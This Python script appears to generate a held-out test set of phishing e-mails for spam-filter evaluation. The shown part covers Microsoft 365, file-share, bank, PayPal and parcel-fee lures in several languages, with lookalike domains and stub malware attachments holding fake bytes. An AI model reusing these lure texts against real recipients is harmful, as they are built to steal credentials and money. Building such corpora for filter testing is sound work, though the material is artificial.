#!/usr/bin/env python3
"""gen_spam_b.py - the held-out modern set, abusive side: writes 45
messages to $MODERN_OUT/spam (gen_lib.save) that a hijacked account of one
of the small businesses of gen_ham_b.py sends: the attacker logs in with
the stolen password and submits through the smarthost, so From is the real
account (sometimes with another display name). 2024-2026 patterns:
Microsoft 365 / OneDrive / SharePoint / Teams credential phishing on
lookalike domains and free hosting, e-signature and file-share lures, bank
phishing in five languages, parcel and tax-refund lures, QR-code phishing,
HTML/SHTML/SVG attachments, OneNote, ISO, LNK/JS in a zip, an encrypted
zip, a RAR with a program, business e-mail compromise, 419, crypto
investment, sextortion, pharma, casino, stock promotion, callback phishing
and a reply-chain hijack. The attachments' payloads are small fake bytes."""
import base64, hashlib, io, random, struct, time, uuid, zlib
from gen_lib import *
from gen_b_common import *

random.seed(9173)
CT["shtml"] = ("text", "html")


FIRST = ["anna", "thomas", "julia", "michael", "sarah", "daniel", "laura", "stefan", "lisa", "markus", "nina",
         "peter", "claudia", "jan", "sophie", "david", "emma", "paul", "marie", "lukas", "james", "olivia", "mark",
         "chloe", "pierre", "lucia", "marco", "eva", "tom", "sandra", "kevin", "ines", "robert", "sven", "hannah"]
LAST = ["mueller", "schmidt", "weber", "wagner", "becker", "hoffmann", "koch", "richter", "klein", "wolf",
        "neumann", "schwarz", "zimmermann", "braun", "krueger", "hartmann", "lange", "werner", "smith", "jones",
        "taylor", "brown", "martin", "bernard", "rossi", "garcia", "jansen", "devries", "kowalski", "novak"]
DOMS = ["gmx.de", "web.de", "t-online.de", "outlook.com", "gmail.com", "yahoo.com", "icloud.com", "posteo.de",
        "freenet.de", "hotmail.co.uk", "orange.fr", "libero.it", "ziggo.nl", "btinternet.com",
        "autohaus-brenner.de", "elektro-sauer.de", "immobilien-kuehn.de", "physio-am-dom.de", "schreinerei-roth.de",
        "architekten-lindner.de", "kanzlei-pohl.de", "metallbau-ernst.de", "cafe-luise.de", "logistik-vormann.de"]


def addr(dom=None):
    return "%s.%s@%s" % (random.choice(FIRST), random.choice(LAST), dom or random.choice(DOMS))


def addrs(n):
    seen = []
    while len(seen) < n:
        a = addr()
        if a not in seen:
            seen.append(a)
    return seen


def b64url(s):
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


def bot(m, html=None, text=None, host=None, mailer=None, msgid=True):
    """a sending script: its own Message-ID shape (or none), an optional X-Mailer"""
    del m["Message-ID"]
    if msgid:
        m["Message-ID"] = "<%s.%d@%s>" % (ralnum(14), int(m._t), host or ("DESKTOP-" + ralnum(7, "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789")))
    if mailer:
        m["X-Mailer"] = mailer
    if text and html:
        m.set_content(text, charset="utf-8", cte="quoted-printable")
        m.add_alternative(html, subtype="html", charset="utf-8", cte="quoted-printable")
    elif html:
        m.set_content(html, subtype="html", charset="utf-8", cte=random.choice(["base64", "quoted-printable"]))
    else:
        m.set_content(text, charset="utf-8", cte="quoted-printable")


def roundcube_html(m, text, html):
    roundcube(m, text)
    m.add_alternative(html, subtype="html", charset="utf-8", cte="quoted-printable")


# ---- fake payloads ----------------------------------------------------------

def exe_bytes(tag="app"):
    stub = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00"
    stub += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
    stub = stub.ljust(0x80, b"\x00") + b"PE\x00\x00\x4c\x01\x03\x00"
    return stub + tag.encode() + os.urandom(1500)


def rar4(name, data):
    def blk(body):
        return struct.pack("<H", zlib.crc32(body) & 0xffff) + body
    main = blk(struct.pack("<BHH", 0x73, 0, 13) + b"\x00" * 6)
    nb = name.encode()
    fh = blk(struct.pack("<BHHIIBIIBBHI", 0x74, 0x8000, 32 + len(nb), len(data), len(data), 2,
                         zlib.crc32(data) & 0xffffffff, 0x5C6E3A21, 29, 0x30, len(nb), 0x20) + nb)
    end = blk(struct.pack("<BHH", 0x7B, 0x4000, 7))
    return b"Rar!\x1a\x07\x00" + main + fh + data + end


def onenote_bytes(embedded):
    guid = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    return guid + os.urandom(600) + embedded.encode("utf-16-le") + os.urandom(900)


def iso_bytes(inner):
    pvd = b"\x01CD001\x01\x00" + b"LINUX".ljust(32) + b"DHL_DOCS".ljust(32)
    return b"\x00" * 32768 + pvd.ljust(2048, b"\x00") + b"\xff" * 16 + inner.upper().encode() + b";1" + \
        b"\x00" * 200 + exe_bytes(inner)


def lnk_bytes(cmd):
    hdr = bytes.fromhex("4c0000000114020000000000c000000000000046") + struct.pack("<I", 0x000000E3)
    return hdr.ljust(76, b"\x00") + "C:\\Windows\\System32\\cmd.exe".encode("utf-16-le") + \
        b"\x00\x00" + cmd.encode("utf-16-le") + os.urandom(300)


# ---- bitcoin addresses of the right shape ---------------------------------

B32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def bech32_address(prog):
    def polymod(values):
        gen = [0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3]
        chk = 1
        for v in values:
            b = chk >> 25
            chk = (chk & 0x1ffffff) << 5 ^ v
            for i in range(5):
                chk ^= gen[i] if ((b >> i) & 1) else 0
        return chk
    acc, bits, data = 0, 0, [0]
    for b in prog:
        acc = (acc << 8) | b
        bits += 8
        while bits >= 5:
            bits -= 5
            data.append((acc >> bits) & 31)
    if bits:
        data.append((acc << (5 - bits)) & 31)
    hrp = "bc"
    exp = [ord(x) >> 5 for x in hrp] + [0] + [ord(x) & 31 for x in hrp]
    pm = polymod(exp + data + [0] * 6) ^ 1
    chk = [(pm >> 5 * (5 - i)) & 31 for i in range(6)]
    return hrp + "1" + "".join(B32[d] for d in data + chk)


# ---- layouts ----------------------------------------------------------------

def ms_html(title, lines, button, url, foot="Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"):
    return ("<html><head><meta charset=\"utf-8\"></head><body style=\"margin:0;background:#f3f2f1\">"
            "<table width=\"100%%\" cellpadding=\"0\" cellspacing=\"0\"><tr><td align=\"center\" style=\"padding:30px\">"
            "<table width=\"520\" style=\"background:#ffffff;font-family:'Segoe UI',Tahoma,sans-serif;color:#323130\">"
            "<tr><td style=\"padding:24px 32px 0\"><table><tr><td style=\"width:11px;height:11px;background:#f25022\"></td>"
            "<td style=\"width:11px;height:11px;background:#7fba00\"></td></tr><tr><td style=\"width:11px;height:11px;"
            "background:#00a4ef\"></td><td style=\"width:11px;height:11px;background:#ffb900\"></td></tr></table></td></tr>"
            "<tr><td style=\"padding:16px 32px;font-size:22px;font-weight:600\">%s</td></tr>"
            "<tr><td style=\"padding:0 32px;font-size:14px;line-height:20px\">%s</td></tr>"
            "<tr><td style=\"padding:24px 32px\"><a href=\"%s\" style=\"background:#0078d4;color:#ffffff;padding:10px 24px;"
            "text-decoration:none;font-size:14px\">%s</a></td></tr>"
            "<tr><td style=\"padding:16px 32px 28px;font-size:11px;color:#8a8886\">%s</td></tr>"
            "</table></td></tr></table></body></html>"
            % (title, "".join("<p>%s</p>" % l for l in lines), url, button, foot))


# ============================================================================
# Microsoft 365 and file-share credential phishing
# ============================================================================

def m365():
    victim = "k.vogt@kita-sonnenblume-kassel.de"
    url = ("https://login.microsoftonline.com.secure-auth.top/common/oauth2/v2.0/authorize?client_id=%s"
           "&response_type=code&login_hint=%s" % (str(uuid.uuid4()), victim))
    m = base("Microsoft 365 Admin <info@%s>" % BAK, victim,
             "Action required: Your password expires today (%s)" % victim, 5)
    phpmailer(m, "Your Microsoft 365 password for %s expires today.\nKeep current password: %s\n" % (victim, url),
              ms_html("Password expiry notice",
                      ["The password for <b>%s</b> expires <b>today</b>." % victim,
                       "To avoid losing access to Outlook, Teams and OneDrive, you can keep your current password "
                       "by confirming it below. This takes less than a minute.",
                       "If no action is taken, you will be signed out of all devices at 23:59."],
                      "Keep current password", url))
    save(m, "spam", "01_m365_password_expiry_brand_in_subdomain")

    url = "https://outlook.rnicrosoft-365.com/owa/quota/upgrade?mbx=" + b64url("stb-" + ralnum(6))
    m = base("Outlook Web App <m.roth@%s>" % STB, "undisclosed-recipients:;",
             "Postfach zu 99 % voll – eingehende Nachrichten werden zurückgehalten", 9)
    roundcube_html(m, "Ihr Postfach hat das Speicherlimit erreicht (49,6 GB von 50 GB).\n"
                   "Zusätzlichen Speicher kostenlos freischalten: %s\n" % url,
                   "<div style=\"font-family:Calibri,Arial;font-size:15px\"><p><b>Microsoft Outlook</b></p>"
                   "<p>Ihr Postfach hat das Speicherlimit erreicht:</p>"
                   "<div style=\"width:360px;background:#ddd\"><div style=\"width:99%;background:#c50f1f;color:#fff;"
                   "font-size:11px;padding:2px\">49,6 GB / 50 GB</div></div>"
                   "<p>14 eingehende Nachrichten werden zurückgehalten. Um sie zu empfangen, schalten Sie bitte "
                   "<b>kostenlos</b> zusätzlichen Speicher frei:</p>"
                   "<p><a href=\"" + url + "\">Speicher jetzt erweitern</a></p>"
                   "<p style=\"color:#777;font-size:12px\">Microsoft Exchange Online · Diese Nachricht wurde automatisch erstellt.</p></div>")
    save(m, "spam", "02_outlook_mailbox_full_rnicrosoft_typosquat")

    url = "https://onedrive-doc-view-7f3a.pages.dev/?id=%s&u=%s" % (rhex(12), b64url("h.albers@albers-immobilien.de"))
    m = base("Jens Carstens <j.carstens@%s>" % MSP, "h.albers@albers-immobilien.de",
             "Jens Carstens hat \"Wartungsvertrag_2026_Unterschrift.pdf\" mit Ihnen geteilt", 3)
    bot(m, html="<html><body style=\"font-family:Segoe UI,Arial\"><table width=\"480\" style=\"border:1px solid #e1dfdd\">"
        "<tr><td style=\"padding:20px\"><img src=\"https://res.cdn.office.net/assets/mail/file-icon/png/pdf_48x1.png\" width=\"32\">"
        "<p style=\"font-size:18px\">Jens Carstens hat eine Datei mit Ihnen geteilt</p>"
        "<p style=\"color:#605e5c\">Hier ist der Vertrag, bitte bis Freitag unterschreiben.</p>"
        "<p><b>Wartungsvertrag_2026_Unterschrift.pdf</b></p>"
        "<p><a href=\"" + url + "\" style=\"background:#0f6cbd;color:#fff;padding:8px 20px;text-decoration:none\">Öffnen</a></p>"
        "<p style=\"font-size:11px;color:#a19f9d\">Dieser Link funktioniert nur für die direkten Empfänger dieser Nachricht.</p>"
        "<p style=\"font-size:11px\"><img src=\"https://res.cdn.office.net/assets/mail/logo/onedrive.png\" width=\"16\"> Microsoft OneDrive</p>"
        "</td></tr></table></body></html>", host="mail." + MSP)
    save(m, "spam", "03_onedrive_shared_file_pages_dev")

    target = "info@brauerei-oberland.de"
    url = "https://sharepointdocs0117.blob.core.windows.net/$web/index.html#" + target
    m = base("Dr. Stefan Weber via SharePoint <s.weber@%s>" % LAW, target,
             "Dr. Stefan Weber hat Ihnen Zugriff auf \"Vergleichsvorschlag_Oberhuber.pdf\" gewährt", 12)
    outlook(m, "Dr. Stefan Weber hat Ihnen Zugriff auf eine Datei in SharePoint Online gewährt.\n\n"
            "Vergleichsvorschlag_Oberhuber.pdf\n\nDatei öffnen: %s\n\n"
            "Microsoft respektiert Ihre Privatsphäre.\n" % url,
            html="<html><body><div style=\"font-family:'Segoe UI';max-width:500px;padding:20px;border-top:4px solid #036c70\">"
            "<p style=\"font-size:20px\">Dr. Stefan Weber hat Ihnen Zugriff auf eine Datei gewährt</p>"
            "<p>\"Bitte prüfen Sie den Vergleichsvorschlag und geben Sie mir bis morgen Bescheid.\"</p>"
            "<table style=\"border:1px solid #ddd;padding:10px\"><tr><td><b>Vergleichsvorschlag_Oberhuber.pdf</b><br>"
            "<span style=\"color:#777\">SharePoint · Weber &amp; Schulte Rechtsanwälte</span></td></tr></table>"
            "<p><a href=\"" + url + "\" style=\"background:#036c70;color:#fff;padding:9px 22px;text-decoration:none\">Öffnen</a></p>"
            "<p style=\"font-size:11px;color:#999\">Microsoft respektiert Ihre Privatsphäre. "
            "<a href=\"https://privacy.microsoft.com/de-de/privacystatement\">Datenschutzbestimmungen</a></p></div></body></html>")
    save(m, "spam", "04_sharepoint_file_access_blob_core_windows")

    url = "https://docusign-envelope-review.netlify.app/?env=%s&e=%s" % (str(uuid.uuid4()).upper(), b64url("rcpt"))
    m = base("Riverside Food Bank via DocuSign <donations@%s>" % CHA, "undisclosed-recipients:;",
             "Completed: Please DocuSign: Partnership_Agreement_2026.pdf", 7)
    phpmailer(m, "Riverside Food Bank sent you a document to review and sign.\nREVIEW DOCUMENT: %s\n" % url,
              "<html><body style=\"background:#eaeaea;font-family:Helvetica,Arial\"><table width=\"600\" align=\"center\" "
              "style=\"background:#fff\"><tr><td style=\"padding:24px\"><span style=\"font-size:26px;font-weight:bold;color:#1e1e1e\">"
              "Docu<span style=\"color:#ffcc22\">Sign</span></span></td></tr><tr><td style=\"background:#1e4ca1;color:#fff;"
              "padding:32px;text-align:center\"><p style=\"font-size:18px\">Riverside Food Bank sent you a document to review and sign.</p>"
              "<a href=\"" + url + "\" style=\"background:#ffc423;color:#333;padding:12px 30px;font-weight:bold;"
              "text-decoration:none;display:inline-block\">REVIEW DOCUMENT</a></td></tr>"
              "<tr><td style=\"padding:24px;font-size:14px\"><b>Margaret Ellis</b><br>Please review and sign the "
              "partnership agreement for the 2026 food collection programme.</td></tr>"
              "<tr><td style=\"padding:24px;font-size:11px;color:#666\">Do Not Share This Email: This email contains a secure "
              "link to DocuSign. Please do not share this email, link, or access code with others.<br>"
              "Alternate signing method: visit DocuSign.com, click 'Access Documents', and enter the security code: "
              + rhex(32).upper() + "</td></tr></table></body></html>")
    save(m, "spam", "05_docusign_review_document_netlify")

    url = "https://adobe-sign-documents-3a9c.vercel.app/agreement/%s" % rhex(20)
    m = base("Adobe Acrobat Sign <events@%s>" % HOT, "comptabilite@" + random.choice(["boulangerie-moreau.fr", "garage-lefevre.fr"]),
             "Contrat_Séjour_Groupe_2026.pdf vous a été envoyé pour signature", 14)
    bot(m, html="<html><body style=\"font-family:Adobe Clean,Arial;background:#fafafa\"><div style=\"max-width:560px;"
        "margin:auto;background:#fff;padding:28px\"><div style=\"color:#eb1000;font-weight:bold;font-size:20px\">Adobe Acrobat Sign</div>"
        "<h2 style=\"font-weight:normal\">Hotel Seeblick vous a envoyé <b>Contrat_Séjour_Groupe_2026.pdf</b> pour signature.</h2>"
        "<p>Veuillez consulter et signer le contrat avant le <b>20/03/2026</b>. Après cette date, la réservation du groupe "
        "sera annulée.</p><p><a href=\"" + url + "\" style=\"background:#1473e6;color:#fff;border-radius:16px;padding:9px 24px;"
        "text-decoration:none\">Consulter et signer</a></p><p style=\"font-size:11px;color:#888\">Ne transférez pas cet e-mail. "
        "© 2026 Adobe. Tous droits réservés.</p></div></body></html>", mailer="Microsoft Office Outlook 12.0")
    save(m, "spam", "06_adobe_sign_french_vercel_app")

    url = "https://wetransfer-download-files.github.io/dl/?transfer=%s&r=%s" % (ralnum(26).lower(), rhex(6))
    m = base("Markus Hofmann via WeTransfer <m.hofmann@%s>" % BAK, "undisclosed-recipients:;",
             "Markus Hofmann hat Ihnen 3 Dateien gesendet", 20)
    bot(m, html="<html><body style=\"background:#f4f4f4;font-family:Arial\"><table width=\"560\" align=\"center\" "
        "style=\"background:#fff;border-radius:8px\"><tr><td style=\"padding:32px;text-align:center\">"
        "<div style=\"font-size:28px;font-weight:bold\">we</div><p style=\"font-size:20px\">Markus Hofmann<br>"
        "hat Ihnen 3 Dateien gesendet</p><p style=\"color:#6a6d70\">Bestellung_Ostern.pdf, Preisliste_2026.xlsx, "
        "Lieferschein_0312.pdf<br>3 Dateien · 4,7 MB · Läuft in 3 Tagen ab</p>"
        "<p><a href=\"" + url + "\" style=\"background:#409fff;color:#fff;padding:14px 40px;border-radius:25px;"
        "text-decoration:none\">Dateien herunterladen</a></p><p style=\"font-size:12px;color:#999\">Download-Link: "
        + url + "</p></td></tr></table></body></html>",
        text="Markus Hofmann hat Ihnen 3 Dateien gesendet.\nDateien herunterladen: " + url + "\n")
    save(m, "spam", "07_wetransfer_files_github_io")

    url = "https://ipfs.io/ipfs/bafybei%s/dbx-view.html#%s" % (ralnum(52, "abcdefghijklmnopqrstuvwxyz234567"),
                                                               "o.grant@greenfield-analytics.co.uk")
    m = base("Marta Kowalczyk <marta@%s>" % DEV, "Oliver Grant <o.grant@greenfield-analytics.co.uk>",
             "Marta Kowalczyk shared \"Q1 2026 Remittance.pdf\" with you", 16)
    thunderbird(m, "Marta Kowalczyk shared a file with you on Dropbox.\n\n\"Q1 2026 Remittance.pdf\"\n\nView file: "
                + url + "\n\nEnjoy!\nThe Dropbox team\n", lang="en-US",
                html=tb_html("<html><body style=\"font-family:'Atlas Grotesk',Arial\"><img src=\"https://cfl.dropboxstatic.com/static/images/logo.png\" width=\"32\">"
                "<p>Hi there,</p><p><b>Marta Kowalczyk</b> (marta@" + DEV + ") invited you to view the file "
                "\"<b>Q1 2026 Remittance.pdf</b>\" on Dropbox.</p><p><a href=\"" + url + "\" style=\"background:#0061fe;"
                "color:#fff;padding:10px 18px;text-decoration:none\">View file</a></p><p>Enjoy!<br>The Dropbox team</p></body></html>"))
    save(m, "spam", "08_dropbox_share_ipfs_gateway")

    url = "https://invoice-portal.dash-cdn.workers.dev/?f=https://pub-%s.r2.dev/Rechnung_RE-2026-4471.html" % rhex(32)
    m = base("Nordlicht IT Buchhaltung <rechnung@%s>" % MSP, "undisclosed-recipients:;",
             "Rechnung RE-2026-4471 – Zahlung bis 19.03. fällig", 6)
    bot(m, text="Sehr geehrte Kundin, sehr geehrter Kunde,\n\nanbei erhalten Sie unsere Rechnung RE-2026-4471 "
        "über 2.847,60 EUR. Aufgrund der Dateigröße stellen wir das Dokument über unser Rechnungsportal bereit:\n\n"
        + url + "\n\nBitte begleichen Sie den Betrag bis zum 19.03.2026.\n\nMit freundlichen Grüßen\n"
        "Buchhaltung Nordlicht IT GmbH\n", host="WIN-" + ralnum(11, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"))
    save(m, "spam", "09_fake_invoice_workers_dev_to_r2_dev")

    url = "https://forms.office.com/Pages/ResponsePage.aspx?id=%s" % ralnum(70, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")
    m = base("Mail Administrator <info@%s>" % EB, "info@%s" % EB,
             "FINAL NOTICE: Your email account will be deactivated within 24 hours", 11)
    roundcube(m, "Dear User,\n\nWe received your request to terminate your email account. This request will "
              "be processed within 24 hours and all your messages and contacts will be permanently deleted.\n\n"
              "If you did not make this request, CANCEL DEACTIVATION immediately by verifying your account "
              "details here:\n\n" + url + "\n\nFailure to verify will result in the permanent closure of your "
              "mailbox.\n\nRegards,\nWebmail Support Team\n(c) 2026 Mail Services. All rights reserved.\n")
    save(m, "spam", "10_webmail_deactivation_forms_office")


# ============================================================================
# banks and payment
# ============================================================================

def banks():
    url = "https://storage.googleapis.com/spk-pushtan-2026/index.html?kd=%s" % rhex(10)
    m = base("Sparkasse Kundenservice <kasse@%s>" % TSV, "undisclosed-recipients:;",
             "Wichtig: Ihr pushTAN-Verfahren muss bis 21.03.2026 aktualisiert werden", 8)
    bot(m, html="<html><body style=\"font-family:Arial;background:#f0f0f0\"><table width=\"600\" align=\"center\" "
        "style=\"background:#fff\"><tr><td style=\"background:#ff0000;color:#fff;padding:16px;font-size:22px\">"
        "<b>Sparkasse</b></td></tr><tr><td style=\"padding:24px;font-size:15px\"><p>Sehr geehrte Kundin, sehr geehrter Kunde,</p>"
        "<p>aufgrund der neuen EU-Zahlungsdiensterichtlinie (PSD3) muss Ihr pushTAN-Verfahren neu registriert werden. "
        "Ohne Aktualisierung wird Ihr Online-Banking ab dem <b>21.03.2026</b> aus Sicherheitsgründen eingeschränkt.</p>"
        "<p style=\"text-align:center\"><a href=\"" + url + "\" style=\"background:#ff0000;color:#fff;padding:12px 30px;"
        "text-decoration:none\">Jetzt aktualisieren</a></p><p>Der Vorgang dauert nur 3 Minuten.</p>"
        "<p>Mit freundlichen Grüßen<br>Ihre Sparkasse</p></td></tr><tr><td style=\"font-size:10px;color:#999;padding:10px\">"
        "Deutscher Sparkassen- und Giroverband e.V.</td></tr></table></body></html>",
        host="ubuntu-s-1vcpu-1gb-fra1-01")
    save(m, "spam", "11_sparkasse_pushtan_german_storage_googleapis")

    url = "https://docs.google.com/forms/d/e/1FAIpQLS%s/viewform?usp=sf_link" % ralnum(50)
    m = base("ING Klantenservice <shop@%s>" % SHOP, addr("ziggo.nl"),
             "Uw betaalpas verloopt: vraag vandaag nog een nieuwe pas aan", 10)
    bot(m, text="Beste klant,\n\nUw ING-betaalpas verloopt binnenkort. Om te voorkomen dat u niet meer kunt "
        "betalen of pinnen, vragen wij u om uw gegevens te controleren en een nieuwe pas aan te vragen.\n\n"
        "Vul het formulier in via de onderstaande link:\n" + url + "\n\n"
        "Let op: aanvragen die na 18 maart binnenkomen, kunnen niet meer op tijd worden verwerkt.\n\n"
        "Met vriendelijke groet,\nING Nederland\nKlantenservice\n",
        mailer="PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)", host=SHOP)
    save(m, "spam", "12_ing_dutch_card_renewal_google_forms")

    url = "https://bnpparibas-securite.wixsite.com/mes-comptes/verification?client=" + rhex(8)
    m = base("BNP Paribas <reservierung@%s>" % HOT, addr("orange.fr"),
             "Votre accès à Mes Comptes est temporairement suspendu", 13)
    bot(m, html="<div style=\"font-family:Verdana;font-size:13px;max-width:600px\"><div style=\"background:#00915a;"
        "color:#fff;padding:14px;font-size:18px\">BNP PARIBAS <span style=\"font-size:12px\">La banque d'un monde qui change</span></div>"
        "<p>Cher(e) client(e),</p><p>Suite à plusieurs tentatives de connexion infructueuses, l'accès à votre espace "
        "<b>Mes Comptes</b> a été temporairement suspendu afin de protéger vos données.</p>"
        "<p>Pour réactiver votre accès, merci de confirmer votre identité et votre clé digitale :</p>"
        "<p><a href=\"" + url + "\" style=\"color:#00915a;font-weight:bold\">&gt; Réactiver mon accès</a></p>"
        "<p>Sans action de votre part sous 48h, votre carte bancaire sera également bloquée.</p>"
        "<p>Cordialement,<br>Le Service Clients BNP Paribas</p></div>")
    save(m, "spam", "13_bnp_paribas_french_wixsite")

    url = "https://bbva-verificacion-clientes.weebly.com/"
    m = base("BBVA España <m.santos@%s>" % HOT, "undisclosed-recipients:;",
             "BBVA: Hemos detectado un acceso no autorizado a su cuenta", 15)
    outlook(m, "Estimado cliente:\n\nHemos detectado un inicio de sesión desde un dispositivo no reconocido "
            "(Android, Bucarest, Rumanía) en su banca online BBVA.\n\nSi no ha sido usted, debe verificar su "
            "identidad en las próximas 24 horas para evitar el bloqueo de su cuenta y tarjetas:\n\n" + url +
            "\n\nGracias por confiar en BBVA.\nDepartamento de Seguridad\n", lang="es-es",
            html="<html><body style=\"font-family:Arial\"><div style=\"background:#004481;color:#fff;padding:16px;font-size:22px\">BBVA</div>"
            "<p>Estimado cliente:</p><p>Hemos detectado un inicio de sesión desde un dispositivo no reconocido "
            "(<b>Android, Bucarest, Rumanía</b>).</p><p>Si no ha sido usted, debe verificar su identidad en las próximas "
            "<b>24 horas</b> para evitar el bloqueo de su cuenta y tarjetas.</p>"
            "<p><a href=\"" + url + "\" style=\"background:#1973b8;color:#fff;padding:10px 26px;text-decoration:none\">"
            "Verificar ahora</a></p><p>Gracias por confiar en BBVA.</p></body></html>")
    save(m, "spam", "14_bbva_spanish_unauthorised_access_weebly")

    url = "https://intesa-sicurezza-clienti.my.canva.site/"
    m = base("Intesa Sanpaolo <m.hofmann@%s>" % BAK, addr("libero.it"),
             "Avviso: il tuo conto è stato limitato", 17)
    bot(m, html="<table style=\"font-family:Arial;max-width:580px\"><tr><td style=\"border-bottom:3px solid #00a651;padding:12px\">"
        "<b style=\"color:#00a651;font-size:20px\">INTESA SANPAOLO</b></td></tr><tr><td style=\"padding:16px;font-size:14px\">"
        "<p>Gentile cliente,</p><p>abbiamo rilevato un'operazione sospetta di <b>€ 1.480,00</b> con la tua carta. "
        "Per la tua sicurezza il conto è stato limitato.</p><p>Se non riconosci l'operazione, annullala subito "
        "accedendo all'area riservata:</p><p><a href=\"" + url + "\" style=\"background:#00a651;color:#fff;padding:10px 20px;"
        "text-decoration:none\">ANNULLA OPERAZIONE</a></p><p>Il Servizio Clienti Intesa Sanpaolo</p></td></tr></table>",
        mailer="Foxmail 7.2.25.228[cn]")
    save(m, "spam", "15_intesa_sanpaolo_italian_canva_site")

    url = "https://www.paypa1-konto-sicherheit.com/de/signin?country.x=DE&locale.x=de_DE&token=" + ralnum(24)
    m = base("PayPal <service@%s>" % APO, "undisclosed-recipients:;",
             "Ihr PayPal-Konto wurde vorübergehend eingeschränkt [Fall-ID PP-L-%d]" % random.randint(100000, 999999), 19)
    phpmailer(m, "Wir haben ungewöhnliche Aktivitäten in Ihrem PayPal-Konto festgestellt. Bitte bestätigen Sie Ihre "
              "Angaben: " + url + "\n",
              "<html><body style=\"font-family:Helvetica,Arial;background:#f5f7fa\"><div style=\"max-width:560px;margin:auto;"
              "background:#fff;padding:30px\"><div style=\"font-size:28px;font-style:italic;font-weight:bold\">"
              "<span style=\"color:#003087\">Pay</span><span style=\"color:#009cde\">Pal</span></div>"
              "<p>Hallo,</p><p>wir haben ungewöhnliche Aktivitäten in Ihrem PayPal-Konto festgestellt. Bis zur "
              "Bestätigung Ihrer Angaben können Sie keine Zahlungen senden oder empfangen.</p>"
              "<p><a href=\"" + url + "\" style=\"background:#0070ba;color:#fff;padding:12px 30px;border-radius:24px;"
              "text-decoration:none\">Jetzt einloggen</a></p><p>Vielen Dank für Ihr Verständnis.<br>Ihr PayPal-Team</p>"
              "<p style=\"font-size:11px;color:#999\">PayPal (Europe) S.à r.l. et Cie, S.C.A., 22-24 Boulevard Royal, L-2449 Luxembourg</p>"
              "</div></body></html>")
    save(m, "spam", "16_paypal_limited_paypa1_typosquat")


# ============================================================================
# parcel and tax refund lures
# ============================================================================

def parcels():
    url = "https://dpd-paketzustellung.de-track.info/?sendung=0150%s" % "".join(random.choice("0123456789") for _ in range(10))
    m = base("DPD Deutschland <termine@%s>" % DENT, "undisclosed-recipients:;",
             "DPD: Zustellung fehlgeschlagen – ausstehende Gebühr 1,99 €", 4)
    bot(m, html="<html><body style=\"font-family:Arial\"><div style=\"background:#dc0032;color:#fff;padding:14px;"
        "font-size:22px;font-weight:bold\">dpd</div><p>Hallo,</p><p>Ihr Paket <b>01505824339127</b> konnte heute nicht "
        "zugestellt werden, da die Versandgebühr von <b>1,99 €</b> nicht bezahlt wurde.</p>"
        "<p>Bitte bezahlen Sie die Gebühr innerhalb von 48 Stunden und wählen Sie einen neuen Zustelltermin, sonst wird "
        "die Sendung an den Absender zurückgeschickt.</p><p><a href=\"" + url + "\" style=\"background:#dc0032;color:#fff;"
        "padding:10px 24px;text-decoration:none\">Zustellung planen</a></p><p>Ihr DPD Team</p></body></html>",
        host="localhost.localdomain")
    save(m, "spam", "17_dpd_parcel_fee_german")

    url = "https://postnl-bezorging-nl.glitch.me/betalen?track=3SPOST%s" % random.randint(1000000, 9999999)
    m = base("PostNL <gruppen@%s>" % HOT, addr("ziggo.nl"),
             "Uw pakket staat klaar – betaal € 1,25 verzendkosten", 22)
    bot(m, text="PostNL\n\nBeste klant,\n\nUw pakket 3SPOST%d kon niet worden bezorgd omdat er nog € 1,25 aan "
        "verzendkosten openstaat.\n\nBetaal via iDEAL en plan een nieuwe bezorging:\n%s\n\n"
        "Het pakket wordt na 3 werkdagen teruggestuurd naar de afzender.\n\nMet vriendelijke groet,\nPostNL\n"
        % (random.randint(1000000, 9999999), url), msgid=False)
    save(m, "spam", "18_postnl_dutch_fee_glitch_me")

    url = "https://laposte-suivi-colis.fr-livraison.info/reprogrammer?id=6A%s" % random.randint(10 ** 10, 10 ** 11)
    m = base("La Poste - Colissimo <chase.turner@%s>" % CHA, addr("orange.fr"),
             "Votre colis est en attente : frais de réexpédition de 2,99 €", 25)
    bot(m, html="<div style=\"font-family:Arial;max-width:560px\"><div style=\"background:#ffc800;padding:12px;"
        "font-weight:bold;font-size:20px;color:#003da5\">La Poste · Colissimo</div><p>Bonjour,</p>"
        "<p>Votre colis n'a pas pu être livré car l'adresse était incomplète. Des frais de réexpédition de "
        "<b>2,99 €</b> sont nécessaires.</p><p>Reprogrammez votre livraison avant le <b>17/03/2026</b> :</p>"
        "<p><a href=\"" + url + "\" style=\"background:#003da5;color:#fff;padding:10px 20px;text-decoration:none\">"
        "Reprogrammer ma livraison</a></p><p>Merci de votre confiance.<br>La Poste</p></div>",
        mailer="Microsoft Outlook 16.0")
    save(m, "spam", "19_la_poste_colissimo_french")

    url = "https://correos-es.envios-pendiente.com/pago?ref=PQ%sES" % random.randint(10 ** 9, 10 ** 10)
    m = base("Correos <a.demir@%s>" % STB, addr("hotmail.com"),
             "Correos: su envío está retenido en aduana (1,79 €)", 27)
    bot(m, html="<table style=\"font-family:Arial;max-width:560px\"><tr><td style=\"background:#ffcd00;padding:14px;"
        "color:#002e6d;font-size:22px;font-weight:bold\">Correos</td></tr><tr><td style=\"padding:16px\">"
        "<p>Estimado cliente:</p><p>Su envío <b>PQ4K7H0921374ES</b> está retenido en aduana. Para liberarlo es "
        "necesario el pago de las tasas de gestión de <b>1,79 €</b>.</p><p><a href=\"" + url + "\" style=\"background:#002e6d;"
        "color:#fff;padding:10px 24px;text-decoration:none\">Pagar y recibir mi envío</a></p>"
        "<p>Si no se realiza el pago en 72 horas, el envío será devuelto.</p><p>Atentamente,<br>Correos España</p>"
        "</td></tr></table>")
    save(m, "spam", "20_correos_spanish_customs_fee")

    url = "https://sites.google.com/view/hmrc-refund-claim-2026/home?ref=" + rhex(8)
